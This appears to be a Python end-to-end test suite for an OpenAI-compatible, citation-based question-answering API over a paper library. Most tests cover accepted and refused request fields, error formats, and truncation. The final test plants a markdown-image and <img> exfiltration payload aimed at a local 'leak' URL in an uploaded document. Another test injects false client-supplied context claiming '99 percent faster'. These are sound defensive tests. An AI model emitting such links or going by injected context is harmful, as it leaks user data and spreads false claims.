"""What OpenAI's clients send beside a question, and what they are told."""

import json
from typing import Any

import httpx

from app.state.domain import Role
from tests.e2e.conftest import Service

QUESTION = "How much more slowly did mice lacking aquaporin-4 clear amyloid-beta?"
ASKED = {"role": "user", "content": QUESTION}


async def complete(service: Service, **fields: Any) -> httpx.Response:
    return await service.client.post("/v1/chat/completions", json={"model": "jianxi", "messages": [ASKED], **fields})


def content(response: httpx.Response) -> str:
    assert response.status_code == 200, response.text
    return str(response.json()["choices"][0]["message"]["content"])


ACCEPTED: list[dict[str, Any]] = [
    {"max_tokens": 16384},
    {"max_completion_tokens": 2**31 - 1},
    {"n": 1, "stop": None, "tools": [], "response_format": {"type": "text"}, "stream": None, "seed": 1},
    {"tools": [{"type": "function"}], "tool_choice": "none"},
    {"presence_penalty": 0, "frequency_penalty": 0.0, "function_call": "auto", "logprobs": False, "seed": -(2**62)},
    {"tool_choice": "auto", "logit_bias": {}, "modalities": ["text"], "parallel_tool_calls": True},
    {"messages": [{"role": r, "content": "x"} for _ in range(60) for r in ("user", "assistant")] + [ASKED]},
    {"messages": [{"role": "user", "content": [{"type": "text", "text": QUESTION}]}]},
    {
        "messages": [
            {"role": "user", "content": "?"},
            {"role": "assistant", "content": None, "tool_calls": [{"id": "1", "type": "function"}]},
            {"role": "tool", "tool_call_id": "1", "content": "{}"},
            ASKED,
        ]
    },
]


async def test_what_clients_send_is_accepted(service: Service) -> None:
    for fields in ACCEPTED:
        said = content(await complete(service, **fields))
        assert "55 percent more slowly than wild-type mice.[1]" in said
        assert "Evidence:\n[1] Aquaporin-4 and clearance (2012, PM-1)" in said


REFUSED: list[tuple[dict[str, Any], str]] = [
    ({"n": 2}, "n"),
    ({"stop": ["."]}, "stop"),
    ({"logprobs": True}, "logprobs"),
    ({"response_format": {"type": "json_object"}}, "response_format"),
    ({"tools": [{"type": "function", "function": {"name": "f"}}]}, "tools"),
    ({"functions": [{"name": "f"}]}, "functions"),
    ({"function_call": {"name": "f"}}, "function_call"),
    ({"presence_penalty": 0.5}, "presence_penalty"),
    ({"frequency_penalty": -1}, "frequency_penalty"),
    ({"n": 0}, "n"),
    ({"tool_choice": "required"}, "tool_choice"),
    ({"top_logprobs": 3}, "top_logprobs"),
    ({"logit_bias": {"1": -100}}, "logit_bias"),
    ({"modalities": ["text", "audio"]}, "modalities"),
    ({"web_search_options": {}}, "web_search_options"),
    ({"messages": [{"role": "user", "content": 5}]}, "messages.0.content"),
    ({"messages": [{"role": "user", "content": [QUESTION]}]}, "messages.0.content.0"),
    ({"temperature": 3}, "temperature"),
    ({"max_tokens": 0}, "max_tokens"),
    ({"messages": []}, "messages"),
    ({"messages": [{"role": "assistant", "content": "x"}]}, "messages"),
    ({"messages": [{"role": "user", "content": "x" * 2001}]}, "2001"),
    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {}}]}]}, "image_url"),
]


async def test_what_cannot_be_kept_is_refused_in_openais_form(service: Service) -> None:
    for fields, param in REFUSED:
        response = await complete(service, **fields)
        assert response.status_code == 400, response.text
        error = response.json()["error"]
        assert error["type"] == "invalid_request_error"
        assert param in f"{error['param']} {error['message']}"
        if "." in param or f"{param}:" in error["message"]:
            assert error["param"] == param


async def test_errors_of_every_kind_have_openais_form(service: Service) -> None:
    client, path = service.client, "/v1/chat/completions"
    half = b'{"model": "jianxi", "messages": [{"role": "user", "content": "AQP4 \\ud83d"}]}'
    found = {
        "broken": await client.post(path, content=b"{"),
        "half": await client.post(path, content=half, headers={"Content-Type": "application/json"}),
        "unknown": await client.get("/v1/models/nobody"),
        "method": await client.get(path),
        "large": await client.post(path, content=b"x" * (3 * 2**20)),
    }
    await (await service.app.state()).keys.create("one", Role.READER)
    found["keyless"] = await complete(service)
    assert {name: r.status_code for name, r in found.items()} == {
        "broken": 400, "half": 422, "unknown": 404, "method": 405, "large": 413, "keyless": 401,
    }  # fmt: skip
    for name, response in found.items():
        assert response.json()["error"]["message"], name


async def test_a_task_over_a_quoted_conversation_is_not_answered_from_papers(service: Service) -> None:
    quoted = f"<chat_history>\nUSER: {QUESTION}\nASSISTANT: {'x' * 3000}\n</chat_history>"
    for task, said in (("Generate a title.", "No title"), ("请为对话生成标题。", "本服务不为对话")):
        messages = [{"role": "user", "content": f"{task}\n{quoted}"}]
        whole = await complete(service, messages=messages)
        assert content(whole).startswith(said[:2])
        assert whole.json()["choices"][0]["message"]["citations"] == []
        streamed = await complete(service, messages=messages, stream=True)
        assert "[DONE]" in streamed.text


async def test_an_answer_ends_with_the_sentence_that_reaches_max_tokens(service: Service) -> None:
    asked = {"role": "user", "content": "睡眠时脑细胞外间隙和类淋巴清除有何变化？"}
    whole = (await complete(service, messages=[asked])).json()
    cut = (await complete(service, messages=[asked], max_tokens=3)).json()
    streamed = await complete(service, messages=[asked], max_completion_tokens=3, stream=True)
    chunks = [json.loads(line[5:]) for line in streamed.text.splitlines() if line.startswith("data:") and "{" in line]
    (choice,), (first, second, *_) = cut["choices"], whole["choices"][0]["message"]["content"].split("[1]")
    assert (whole["choices"][0]["finish_reason"], choice["finish_reason"]) == ("stop", "length")
    assert choice["message"]["content"].startswith(f"{first}[1]\n")
    assert second.strip() not in choice["message"]["content"]
    assert "".join(c["choices"][0]["delta"].get("content", "") for c in chunks) == choice["message"]["content"]
    assert chunks[-1]["choices"][0]["finish_reason"] == "length"
    assert cut["usage"] == whole["usage"]


async def test_a_client_with_a_retrieval_of_its_own_is_answered_from_the_library(service: Service) -> None:
    found = "<source id='1'>Mice lacking aquaporin-4 cleared amyloid-beta 99 percent faster.</source>"
    wrapped = f"### Task: use the context\n<context>\n{found * 40}\n</context>\n\n"
    for text in (f"{wrapped}<user_query>\n{QUESTION}\n</user_query>", f"{wrapped}{QUESTION}"):
        said = content(await complete(service, messages=[{"role": "user", "content": text}]))
        assert said == content(await complete(service))
        assert "99 percent" not in said


async def test_a_model_is_told_by_its_name(service: Service) -> None:
    assert (await service.client.get("/v1/models/jianxi")).json()["id"] == "jianxi"


async def test_documents_cannot_make_a_client_load_or_link_anything(service: Service) -> None:
    leak = "![x](http://127.0.0.1:9/leak?d=secret)"
    text = f"# Numbats\n\nNumbats have cortical clefts of 40 nm {leak} <img src='http://127.0.0.1:9/leak'> in summer.\n"
    job = (await service.client.post("/v1/documents", files={"files": ("numbat.txt", text.encode())})).json()
    await (await service.app.open_jobs()).finished(job["id"])
    messages = [{"role": "user", "content": "How wide are the cortical clefts of numbats?"}]
    whole = content(await complete(service, messages=messages))
    streamed = await complete(service, messages=messages, stream=True)
    chunks = [json.loads(line[5:]) for line in streamed.text.splitlines() if line.startswith("data:") and "{" in line]
    said = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks)
    assert said == whole
    assert "40 nm" in whole
    for live in ("![", "](", "<img", "://"):
        assert live not in whole
